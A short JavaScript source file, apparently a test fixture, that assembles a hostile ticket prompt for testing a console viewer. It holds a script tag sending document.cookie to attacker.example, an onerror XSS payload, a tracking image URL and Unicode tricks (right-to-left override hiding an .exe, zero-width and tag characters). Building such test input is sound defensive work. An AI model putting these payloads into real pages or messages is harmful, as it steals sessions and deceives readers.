/**
 * A prompt that attacks the person who reads it in a console: a script, an image whose request reports the reading, and characters
 * that reorder or hide text.
 */
const SCRIPT = `<script>fetch("https://attacker.example/" + document.cookie)</script><img src=x onerror="alert(1)">`;
const IMAGE = "![status](https://attacker.example/seen.png?who=admin)";
/** Right-to-left override, zero-width space, and "hi" in tag characters. */
const HIDDEN = "Please open invoice\u202Efdp.exe\u202C now\u200B. \u{E0068}\u{E0069}";

export const HOSTILE_PROMPT = `Summarize this ticket:\n${SCRIPT}\n${IMAGE}\n${HIDDEN}`;
